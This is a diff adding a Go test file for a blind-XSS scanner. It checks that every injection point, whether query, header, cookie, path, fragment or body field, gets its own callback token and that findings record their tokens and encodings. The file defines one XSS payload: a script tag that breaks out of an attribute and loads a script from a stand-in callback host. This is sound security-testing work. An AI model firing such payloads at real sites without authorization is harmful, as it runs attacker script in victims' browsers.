@@ -0,0 +1,186 @@
+package scan
+
+import (
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/callback"
+	"github.com/ethicalhackingplayground/bxss/v2/pkg/report"
+)
+
+const tokenPayload = `"><script src=//cb.example/{{token}}></script>`
+
+func TestTokenPerInjection(t *testing.T) {
+	tokens := callback.NewIndex()
+	s := testScanner(t, &ScannerConfig{
+		Method:       http.MethodGet,
+		IsParameters: true,
+		PathInject:   true,
+		Fragment:     true,
+		CookieParams: []string{"sid"},
+		DryRun:       true,
+		Tokens:       tokens,
+	})
+
+	link := "http://target.example/p?a=1&b=2"
+	s.Scan(link, tokenPayload, "X-Test: v")
+
+	// Both parameter requests carry the header under test too, and they and
+	// both path requests the cookie. Path tokens are named by their path.
+	want := map[string]int{
+		report.PointQuery + " a":       1,
+		report.PointQuery + " b":       1,
+		report.PointHeader + " X-Test": 2,
+		report.PointCookie + " sid":    4,
+		report.PointFragment + " ":     1,
+	}
+	got := make(map[string]int)
+	paths := 0
+	for _, inj := range tokens.Injections() {
+		if inj.URL != link {
+			t.Errorf("token %s recorded for %s, want %s", inj.Token, inj.URL, link)
+		}
+		if !strings.Contains(inj.Payload, inj.Token) || strings.Contains(inj.Payload, callback.TokenPlaceholder) {
+			t.Errorf("token %s recorded with payload %q", inj.Token, inj.Payload)
+		}
+		if resolved, ok := tokens.Lookup(inj.Token); !ok || !reflect.DeepEqual(resolved, inj) {
+			t.Errorf("Lookup(%s) = %+v, %v", inj.Token, resolved, ok)
+		}
+
+		name := inj.Param
+		if inj.Point == report.PointHeader {
+			name = inj.Header
+		}
+		if inj.Point == report.PointPath {
+			paths++
+			continue
+		}
+		got[inj.Point+" "+name]++
+	}
+	for key, n := range want {
+		if got[key] != n {
+			t.Errorf("%d tokens for %s, want %d", got[key], key, n)
+		}
+	}
+	if paths != 2 {
+		t.Errorf("%d path tokens, want 2", paths)
+	}
+	if tokens.Len() != 11 {
+		t.Errorf("%d tokens, want one per injection, 11", tokens.Len())
+	}
+
+	// Scanning again gives every injection a token never used before
+	before := tokens.Len()
+	s.Scan(link, tokenPayload, "X-Test: v")
+	if tokens.Len() != 2*before {
+		t.Errorf("%d tokens after scanning twice, want %d distinct ones", tokens.Len(), 2*before)
+	}
+}
+
+func TestTokenPerBodyField(t *testing.T) {
+	tokens := callback.NewIndex()
+	s := testScanner(t, &ScannerConfig{
+		Method: http.MethodPost,
+		Data:   "name=x&bio=y",
+		DryRun: true,
+		Tokens: tokens,
+	})
+	s.Scan("http://target.example/api", tokenPayload, "")
+
+	fields := make(map[string]bool)
+	for _, inj := range tokens.Injections() {
+		if inj.Point == report.PointBody {
+			fields[inj.Param] = true
+		}
+	}
+	if len(fields) != 2 || !fields["name"] || !fields["bio"] {
+		t.Errorf("body tokens recorded for %v, want name and bio", fields)
+	}
+}
+
+func TestTokenPerJSONField(t *testing.T) {
+	tokens := callback.NewIndex()
+	s := testScanner(t, &ScannerConfig{
+		Method: http.MethodPost,
+		Data:   `{"name":"x","profile":{"bio":"y"}}`,
+		DryRun: true,
+		Tokens: tokens,
+	})
+	s.Scan("http://target.example/api", tokenPayload, "")
+
+	fields := make(map[string]bool)
+	for _, inj := range tokens.Injections() {
+		if inj.Point == report.PointBody {
+			fields[inj.Param] = true
+		}
+	}
+	if len(fields) != 2 || !fields["name"] || !fields["bio"] {
+		t.Errorf("body tokens recorded for %v, want name and bio", fields)
+	}
+}
+
+func TestFindingCarriesItsToken(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		io.WriteString(w, "ok")
+	}))
+	defer server.Close()
+
+	tokens := callback.NewIndex()
+	findings := report.NewCollector()
+	s := testScanner(t, &ScannerConfig{
+		Method:       http.MethodGet,
+		IsParameters: true,
+		Tokens:       tokens,
+		Report:       findings,
+	})
+	s.Scan(server.URL+"/?a=1&b=2", tokenPayload, "")
+
+	got := findings.Findings()
+	if len(got) != 2 {
+		t.Fatalf("%d findings, want one per parameter", len(got))
+	}
+	for _, f := range got {
+		inj, ok := tokens.Lookup(f.Token)
+		if !ok {
+			t.Errorf("finding for %s has unknown token %q", f.Param, f.Token)
+			continue
+		}
+		if inj.Point != f.InjectionPoint || inj.Param != f.Param {
+			t.Errorf("finding for %s %s has the token of %s %s", f.InjectionPoint, f.Param, inj.Point, inj.Param)
+		}
+	}
+}
+
+func TestFindingCarriesItsEncodings(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		io.WriteString(w, "ok")
+	}))
+	defer server.Close()
+
+	tokens := callback.NewIndex()
+	findings := report.NewCollector()
+	s := testScanner(t, &ScannerConfig{
+		Method:       http.MethodGet,
+		IsParameters: true,
+		Tokens:       tokens,
+		Report:       findings,
+	})
+	s.WithEncodings([]string{"url", "html"}).Scan(server.URL+"/?a=1", tokenPayload, "")
+	s.Scan(server.URL+"/?a=1", tokenPayload, "")
+
+	got := findings.Findings()
+	if len(got) != 2 {
+		t.Fatalf("%d findings, want 2", len(got))
+	}
+	if !slices.Equal(got[0].Encodings, []string{"url", "html"}) || got[1].Encodings != nil {
+		t.Errorf("encodings = %v and %v, want [url html] and none", got[0].Encodings, got[1].Encodings)
+	}
+	if inj, _ := tokens.Lookup(got[0].Token); !slices.Equal(inj.Encodings, got[0].Encodings) {
+		t.Errorf("token index recorded encodings %v", inj.Encodings)
+	}
+}